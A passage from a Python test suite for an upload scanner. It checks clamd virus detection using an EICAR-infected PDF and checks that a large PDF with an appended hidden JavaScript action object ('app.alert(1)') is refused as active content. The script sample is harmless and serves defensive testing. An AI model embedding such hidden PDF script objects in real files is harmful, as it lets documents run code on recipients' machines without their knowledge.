    assert result.output == f"{path}: refused virus_found: {Reason.VIRUS_FOUND.message}\n"


def test_the_cli_scans_with_the_configured_clamd(clamd, tmp_path):
    from tests.support.services import EICAR

    app = make_app(f"sqlite:///{tmp_path / 'unused.sqlite'}", 25, tmp_path, CLAMD_SOCKET=str(clamd.socket_path))
    clean, infected = tmp_path / "clean.pdf", tmp_path / "eicar.pdf"
    clean.write_bytes(pdf_bytes())
    infected.write_bytes(pdf_bytes() + EICAR)
    result = app.test_cli_runner().invoke(args=["uploads-check", str(clean), str(infected)])
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"{clean}: accepted application/pdf",
        f"{infected}: refused virus_found: {Reason.VIRUS_FOUND.message}",
    ]


def _big_pdf(extra_tail: bytes = b"") -> bytes:
    """A valid PDF over the size at which the raw scan reads through a memory map (about 20 MB of image streams)."""
    writer = PdfWriter()
    for _ in range(3):
        page = writer.add_blank_page(width=595, height=842)
        image = io.BytesIO()
        Image.frombytes("L", (2600, 2600), os.urandom(2600 * 2600)).save(image, format="PDF")
        page.merge_page(PdfReader(io.BytesIO(image.getvalue())).pages[0])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue() + extra_tail


def test_a_large_pdf_is_scanned_through_a_memory_map_and_still_refused_for_hidden_script():
    hidden = b"99 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    clean = _big_pdf()
    assert len(clean) > 8 * 1024 * 1024
    with check(clean, "Large policy.pdf", max_bytes=64 * 1024 * 1024) as accepted:
        assert accepted.mime_type == "application/pdf"
    refused = refusal(_big_pdf(hidden), "Large policy.pdf", max_bytes=64 * 1024 * 1024)
    assert refused.reason == Reason.PDF_ACTIVE_CONTENT and "raw syntax" in refused.detail
